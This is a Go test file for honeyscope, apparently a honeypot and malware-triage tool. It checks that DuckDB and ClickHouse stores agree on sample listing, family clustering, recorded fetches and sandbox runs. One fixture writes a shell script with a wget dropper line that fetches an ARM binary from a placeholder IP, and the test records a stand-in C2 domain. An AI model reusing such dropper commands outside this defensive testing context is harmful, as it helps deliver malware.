package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/store"
	"github.com/honeyscope/honeyscope/internal/store/clickstore"
	"github.com/honeyscope/honeyscope/internal/store/duckstore"
	"github.com/honeyscope/honeyscope/internal/store/storetest/contract"
)

// freshClickHouse is the URL of a new ClickHouse store on the server
// $HONEYSCOPE_CLICKHOUSE names, dropped at the end of the test (which
// skips without one).
func freshClickHouse(t *testing.T) string {
	t.Helper()
	url := contract.ClickHouseURL(t)
	st, err := clickstore.Open(context.Background(), url, clickstore.Options{})
	if err != nil {
		if strings.Contains(err.Error(), "connect") || strings.Contains(err.Error(), "dial") {
			t.Skipf("ClickHouse server of $%s unreachable: %v", contract.EnvClickHouse, err)
		}
		t.Fatal(err)
	}
	t.Cleanup(func() {
		st.Drop(context.Background())
		st.Close()
	})
	return url
}

// withoutTimes is a JSON answer with the members that hold the time a
// command ran (first and last seen of samples added then) left out, for
// comparing the answers of two stores written a moment apart.
func withoutTimes(t *testing.T, out string) any {
	t.Helper()
	var v any
	if err := json.Unmarshal([]byte(out), &v); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	var strip func(any)
	strip = func(v any) {
		switch x := v.(type) {
		case map[string]any:
			for k, e := range x {
				switch strings.ToLower(k) {
				case "first_seen", "last_seen", "first", "last", "time":
					delete(x, k)
					continue
				}
				strip(e)
			}
		case []any:
			for _, e := range x {
				strip(e)
			}
		}
	}
	strip(v)
	return v
}

// TestClickHouseBinarySamples: samples added, triaged and clustered
// through --store answer `samples list`, `show` and `families` as through
// --db; a fetch and a sandbox run recorded through the store interface
// show with the sample on both, and the run's capture gives the same
// source ports; without --sample-dir the samples go under the working
// directory, as serve's do.
func TestClickHouseBinarySamples(t *testing.T) {
	url := freshClickHouse(t)
	dir := t.TempDir()
	in := filepath.Join(dir, "in")
	os.MkdirAll(in, 0o700)
	a := miraiLikeELF(1)
	b := bytes.Clone(a)
	for i := 0; i < 60; i++ {
		b[1000+i*1500] ^= 0x5a
	}
	os.WriteFile(filepath.Join(in, "a.arm"), a, 0o600)
	os.WriteFile(filepath.Join(in, "b.arm"), b, 0o600)
	os.WriteFile(filepath.Join(in, "x.sh"), []byte("#!/bin/sh\nwget http://198.51.100.7/bins/x.arm7\n"), 0o600)
	s := twoStores{dir: dir, duck: []string{"--db", filepath.Join(dir, "ref.duckdb")}, ch: []string{"--store", url}}
	adds := map[string]string{}
	for name, target := range map[string][]string{"duck": s.duck, "ch": append(append([]string{}, s.ch...), "--sample-dir", filepath.Join(dir, "ch-samples"))} {
		out, errOut, code := hs(t, append(append([]string{"samples", "add", "--format", "json"}, target...), in)...)
		if code != 0 {
			t.Fatalf("samples add %s: %s%s", name, out, errOut)
		}
		adds[name] = out
	}
	if adds["duck"] != adds["ch"] {
		t.Errorf("samples add differs:\n duck %s\n  ch  %s", adds["duck"], adds["ch"])
	}
	var rows []addedRow
	if err := json.Unmarshal([]byte(adds["ch"]), &rows); err != nil || len(rows) != 3 {
		t.Fatalf("%v: %s", err, adds["ch"])
	}
	for _, r := range rows {
		if !r.New {
			t.Errorf("not new on a fresh store: %+v", r)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "ch-samples", rows[0].SHA256[:2])); err != nil {
		t.Errorf("the content is not in --sample-dir: %v", err)
	}
	// Again: nothing new on either.
	if out := s.both(t, "samples", "add", "--format", "json", "--sample-dir", filepath.Join(dir, "again"), filepath.Join(in, "a.arm")); !strings.Contains(out, `"new": false`) {
		t.Errorf("again: %s", out)
	}
	var sha string
	for _, r := range rows {
		if r.Family == "mirai" {
			sha = r.SHA256
		}
	}
	if sha == "" {
		t.Fatalf("no mirai sample among %+v", rows)
	}
	compare := func(args ...string) string {
		t.Helper()
		da, errA, codeA := hs(t, append(append([]string{}, args...), s.duck...)...)
		ca, errB, codeB := hs(t, append(append([]string{}, args...), s.ch...)...)
		if codeA != 0 || codeB != 0 {
			t.Fatalf("%v: exit %d / %d:\n%s\n%s", args, codeA, codeB, errA, errB)
		}
		if x, y := withoutTimes(t, da), withoutTimes(t, ca); !reflect.DeepEqual(x, y) {
			t.Errorf("%v differs between DuckDB and ClickHouse:\n duck %s\n  ch  %s", args, da, ca)
		}
		return ca
	}
	if out := compare("samples", "list", "--format", "json"); !strings.Contains(out, `"mirai"`) || !strings.Contains(out, `"added"`) {
		t.Errorf("samples list: %s", out)
	}
	compare("samples", "list", "--format", "json", "--family", "mirai", "--arch", "arm")
	if out := compare("samples", "show", "--format", "json", sha[:12]); !strings.Contains(out, "XOR key") && !strings.Contains(out, `"mirai"`) {
		t.Errorf("samples show: %s", out)
	}
	compare("samples", "families", "--format", "json")
	compare("samples", "families", "--format", "json", "--by", "arch")
	if out := s.both(t, "samples", "triage", "--sample-dir", filepath.Join(dir, "ch-samples")); !strings.Contains(out, "0 samples triaged") {
		t.Errorf("triage again: %s", out)
	}
	if out, _, _ := hs(t, "samples", "--store", url); !strings.Contains(out, "mirai") {
		t.Errorf("samples table: %s", out)
	}

	// A fetch and a sandbox run of the sample, over the capture of a
	// sandbox sensor, recorded through the store interface in each.
	pcap := filepath.Join(dir, "run.pcap")
	if out, errOut, code := hs(t, "synth", "--out", pcap, "--packets", "3000", "--days", "1", "--seed", "4"); code != 0 {
		t.Fatalf("synth: %s%s", out, errOut)
	}
	ctx := context.Background()
	at := time.Date(2026, 5, 4, 1, 0, 0, 0, time.UTC)
	for _, target := range [][]string{s.duck, s.ch} {
		if out, errOut, code := hs(t, append(append([]string{"ingest", "-q", "--tz", "UTC", "--sensor", "sandbox"}, target...), pcap)...); code != 0 {
			t.Fatalf("ingest %v: %s%s", target, out, errOut)
		}
		var st store.Store
		var err error
		if target[0] == "--db" {
			st, err = duckstore.Open(ctx, target[1], duckstore.Options{})
		} else {
			st, err = clickstore.Open(ctx, target[1], clickstore.Options{})
		}
		if err != nil {
			t.Fatal(err)
		}
		caps, err := st.Captures(ctx, []string{"sandbox"})
		if err != nil || len(caps) != 1 {
			t.Fatalf("captures %+v %v", caps, err)
		}
		if err := st.(store.FetchStore).RecordFetch(ctx, store.Fetch{URL: "http://198.51.100.7/bins/x.arm7", Time: at, Attempts: 1, Status: 200,
			Server: "198.51.100.7:80", Size: int64(len(a)), SHA256: sha, Type: "elf"}); err != nil {
			t.Fatal(err)
		}
		r, err := st.(store.SandboxStore).AddSandboxRun(ctx, store.SandboxRun{SHA256: sha, Arch: "arm", Started: caps[0].First,
			Duration: caps[0].Last.Sub(caps[0].First), TimedOut: true, Packets: 3000, Sensor: "sandbox",
			Indicators: []store.SandboxIndicator{{Kind: store.IndicatorDomain, Value: "cnc.example", Count: 4}, {Kind: store.IndicatorScanned, Value: "23", Count: 40}}})
		if err != nil || r.ID != 1 {
			t.Fatalf("run %d: %v", r.ID, err)
		}
		st.Close()
	}
	out := compare("samples", "show", "--format", "json", sha)
	var shown struct {
		Fetches []store.Fetch
		Runs    []store.SandboxRun
	}
	if err := json.Unmarshal([]byte(out), &shown); err != nil || len(shown.Fetches) != 1 || len(shown.Runs) != 1 || len(shown.Runs[0].Indicators) != 2 {
		t.Errorf("show with a fetch and a run (%v): %s", err, out)
	}
	out, errOut, code := hs(t, "samples", "show", "--store", url, sha)
	for _, want := range []string{"family            mirai", "fetched (1)", "198.51.100.7:80", "sandbox runs (1)", "cnc.example"} {
		if code != 0 || !strings.Contains(out, want) {
			t.Errorf("show table: no %q (exit %d %s):\n%s", want, code, errOut, out)
		}
	}
	// The run's capture is the sandbox sensor's ingest: the same source
	// ports through either store, and not none.
	if out := s.both(t, "srcports", "--run", "1", "--format", "json"); !strings.Contains(out, `"sources": 100`) {
		t.Errorf("srcports --run: %.400s", out)
	}
	s.both(t, "srcports", "--run", "1")
}
